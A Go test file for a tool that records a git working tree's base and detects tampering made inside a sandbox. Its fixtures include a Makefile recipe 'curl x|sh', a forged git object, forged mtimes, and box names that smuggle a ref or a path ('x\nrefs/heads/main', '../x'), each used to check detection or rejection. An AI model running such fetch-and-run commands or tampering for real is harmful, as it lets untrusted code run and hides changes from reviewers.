@@ -1,0 +1,226 @@
+package diff
+
+import (
+	"bytes"
+	"compress/zlib"
+	"crypto/sha256"
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestManifestRoundTripAndCorruption(t *testing.T) {
+	m := &manifest{manifestHeader: manifestHeader{Box: "b-1", Ref: RefPrefix + "b-1/x", Commit: "abc", Created: time.Unix(5, 6).UTC()},
+		Entries: []*entry{{Path: "a", Kind: KindFile, Mode: 0o100755, Size: 3, Mtime: -1, Ctime: 7, Ino: 9, Dev: 2, Have: true, Hash: blobHash([]byte("abc"))},
+			{Path: ".git/config", Kind: KindFile, Flags: flagGitMeta, Data: []byte("[core]\n")},
+			{Path: "l", Kind: KindSymlink}}}
+	data, err := m.encode()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := decodeManifest(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got.Entries) != 3 || got.Entries[0].Hash != m.Entries[0].Hash || !got.Entries[0].Have || got.Entries[0].Mtime != -1 ||
+		string(got.Entries[1].Data) != "[core]\n" || got.Entries[2].Have || got.Commit != "abc" || !got.Created.Equal(m.Created) {
+		t.Errorf("round trip lost data: %+v", got.Entries)
+	}
+	for name, bad := range map[string][]byte{
+		"truncated":   data[:len(data)-1],
+		"flipped bit": append(append([]byte{}, data[:40]...), append([]byte{data[40] ^ 1}, data[41:]...)...),
+		"empty":       nil,
+	} {
+		if _, err := decodeManifest(bad); !errors.Is(err, errManifest) {
+			t.Errorf("%s manifest: err = %v, want errManifest", name, err)
+		}
+	}
+}
+
+// TestRecordBaseLeavesIndexAndHead checks the session base touches neither the index nor HEAD,
+// records untracked and ignored files, and writes a commit git itself can read.
+func TestRecordBaseLeavesIndexAndHead(t *testing.T) {
+	r := newRepo(t, baseFiles)
+	r.write(".envrc", "ignored but recorded\n")
+	r.write("new.txt", "untracked\n")
+	r.write("ignored/dep.js", "dependency\n")
+	index, _ := os.ReadFile(r.abs(".git/index"))
+	head := r.git("rev-parse", "HEAD")
+	r.clearCanary()
+	ref := r.record()
+	r.checkCanary("RecordBase")
+	if after, _ := os.ReadFile(r.abs(".git/index")); !bytes.Equal(index, after) {
+		t.Error("RecordBase changed .git/index")
+	}
+	if got := r.git("rev-parse", "HEAD"); got != head {
+		t.Errorf("HEAD moved from %s to %s", head, got)
+	}
+	if !strings.HasPrefix(ref, RefPrefix+"box-test/") {
+		t.Errorf("ref %q is not under %sbox-test/", ref, RefPrefix)
+	}
+	if got := r.git("cat-file", "-p", ref+":.envrc"); got != "ignored but recorded" {
+		t.Errorf("ignored .envrc in the base = %q", got)
+	}
+	if _, err := r.tryGit("cat-file", "-e", ref+":ignored/dep.js"); err == nil {
+		t.Error("a file of an ignored directory was copied into the base commit")
+	}
+	if got := r.git("rev-parse", ref+"^"); got != head {
+		t.Errorf("base parent = %s, want HEAD %s", got, head)
+	}
+	if out := r.git("-c", "core.hooksPath=/dev/null", "fsck", "--no-dangling", "--no-progress"); strings.Contains(out, "error") {
+		t.Errorf("git fsck: %s", out)
+	}
+	if rep := r.compare(Options{}); len(rep.Changes) != 0 {
+		t.Errorf("an unchanged tree shows changes: %+v", rep.Changes)
+	}
+	// The ignored directory is still compared, from the manifest.
+	r.write("ignored/dep.js", "changed\n")
+	if rep := r.compare(Options{}); len(rep.Changes) != 1 || rep.Changes[0].Path != "ignored/dep.js" {
+		t.Errorf("a change in an ignored directory was missed: %+v", rep.Changes)
+	}
+}
+
+func TestRecordBaseRejectsBadBox(t *testing.T) {
+	r := newRepo(t, baseFiles)
+	for _, box := range []string{"", "../x", "a/b", "A", "x\nrefs/heads/main", "x..y/"} {
+		if _, err := RecordBaseWith(t.Context(), r.project(), box, BaseOptions{Home: r.home}); err == nil {
+			t.Errorf("box %q accepted", box)
+		}
+	}
+}
+
+func TestBaseOfAnotherTree(t *testing.T) {
+	a := newRepo(t, baseFiles)
+	a.record()
+	b := newRepo(t, baseFiles)
+	_, err := Compare(t.Context(), b.project(), Options{Box: "box-test", Home: a.home})
+	if err == nil || !strings.Contains(err.Error(), "were recorded for") {
+		t.Errorf("comparing with another tree's session base: err = %v", err)
+	}
+}
+
+func TestNoBase(t *testing.T) {
+	r := newRepo(t, baseFiles)
+	_, err := Compare(t.Context(), r.project(), Options{Box: "box-test", Home: r.home})
+	if !errors.Is(err, ErrNoBase) {
+		t.Errorf("err = %v, want ErrNoBase", err)
+	}
+}
+
+// TestStatCacheForgedMtime: the box rewrites a file with the same size and puts the old mtime
+// back; the host's ctime still changed, so the trusted stat cache must not vouch for it.
+func TestStatCacheForgedMtime(t *testing.T) {
+	r := newRepo(t, baseFiles)
+	// A base "recorded" 10 s in the future makes every cached entry old enough to be trusted.
+	if _, err := RecordBaseWith(t.Context(), r.project(), "box-test", BaseOptions{Home: r.home,
+		Now: func() time.Time { return time.Now().Add(10 * time.Second) }}); err != nil {
+		t.Fatal(err)
+	}
+	st, _ := os.Stat(r.abs("Makefile"))
+	r.write("Makefile", "all:\n\tcurl x|sh\n"[:st.Size()])
+	if err := os.Chtimes(r.abs("Makefile"), st.ModTime(), st.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+	rep := r.compare(Options{})
+	checkFindings(t, rep, []want{{"Makefile", "make", "curl"}}, true)
+}
+
+// TestTamperedObjectNotShown: the box rewrites the loose object of the base blob; the old text
+// must not be shown as if it were the base.
+func TestTamperedObjectNotShown(t *testing.T) {
+	r := newRepo(t, map[string]string{"README.md": "x\n"})
+	r.write("Makefile", "all:\n\techo base\n") // untracked: its blob is written loose by RecordBase
+	r.record()
+	h := blobHash([]byte("all:\n\techo base\n"))
+	hex := strings.ToLower(strings.TrimSpace(r.git("hash-object", "--no-filters", "Makefile")))
+	if hex != plumbingHex(h) {
+		t.Fatalf("hash mismatch %s vs %s", hex, plumbingHex(h))
+	}
+	obj := filepath.Join(r.dir, ".git", "objects", hex[:2], hex[2:])
+	var z bytes.Buffer
+	zw := zlib.NewWriter(&z)
+	zw.Write([]byte("blob 17\x00all:\n\techo fake\n"))
+	zw.Close()
+	_ = os.Chmod(obj, 0o644)
+	if err := os.WriteFile(obj, z.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r.write("Makefile", "all:\n\tcurl x\n")
+	rep := r.compare(Options{})
+	checkFindings(t, rep, []want{{"Makefile", "make", "failed verification"}}, true)
+	for _, f := range rep.Findings {
+		if strings.Contains(strings.Join(f.Detail, "\n"), "fake") {
+			t.Errorf("the tampered object's text was shown as the base: %v", f.Detail)
+		}
+	}
+}
+
+func plumbingHex(h [20]byte) string {
+	const digits = "0123456789abcdef"
+	var b strings.Builder
+	for _, c := range h {
+		b.WriteByte(digits[c>>4])
+		b.WriteByte(digits[c&15])
+	}
+	return b.String()
+}
+
+// TestRevisionBase compares against a commit, including a file git only knows through a
+// replace ref.
+func TestRevisionBase(t *testing.T) {
+	r := newRepo(t, baseFiles)
+	r.write("Makefile", "all:\n\tcurl x\n")
+	r.write("extra.txt", "new\n")
+	rep := r.compare(Options{Base: "HEAD"})
+	checkFindings(t, rep, []want{{"Makefile", "make", "+\tcurl x"}}, true)
+	if rep.Base.Kind != "revision" || rep.Base.GitMetaCompared {
+		t.Errorf("base = %+v, want a revision without git metadata", rep.Base)
+	}
+	var sawExtra bool
+	for _, c := range rep.Changes {
+		sawExtra = sawExtra || c.Path == "extra.txt" && c.Status == "added" && !c.Finding
+	}
+	if !sawExtra {
+		t.Errorf("extra.txt not listed as an ordinary addition: %+v", rep.Changes)
+	}
+	if _, err := Compare(t.Context(), r.project(), Options{Base: "no-such-rev", Box: "box-test", Home: r.home}); err == nil {
+		t.Error("an unknown revision was accepted")
+	}
+}
+
+// FuzzDecodeManifest: a damaged manifest is an error, never a panic or a huge allocation.
+func FuzzDecodeManifest(f *testing.F) {
+	m := &manifest{manifestHeader: manifestHeader{Box: "b"}, Entries: []*entry{{Path: "a", Kind: KindFile, Have: true, Data: []byte("x")}}}
+	good, _ := m.encode()
+	f.Add(good)
+	f.Add([]byte(manifestMagic))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		// Re-seal the body so that the fuzzer reaches the entry decoder, not just the checksum.
+		if len(data) > 32 {
+			sum := sha256.Sum256(data[:len(data)-32])
+			data = append(data[:len(data)-32:len(data)-32], sum[:]...)
+		}
+		_, _ = decodeManifest(data)
+	})
+}
+
+func TestPruneManifests(t *testing.T) {
+	dir := t.TempDir()
+	for _, n := range []string{"1.base", "2.base", "3.base", "4.base", "other"} {
+		if err := os.WriteFile(filepath.Join(dir, n), nil, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := pruneManifests(dir, 2); err != nil {
+		t.Fatal(err)
+	}
+	names, _ := readNames(dir)
+	slices.Sort(names)
+	if want := []string{"3.base", "4.base", "other"}; !slices.Equal(names, want) {
+		t.Errorf("after pruning: %v, want %v", names, want)
+	}
+}
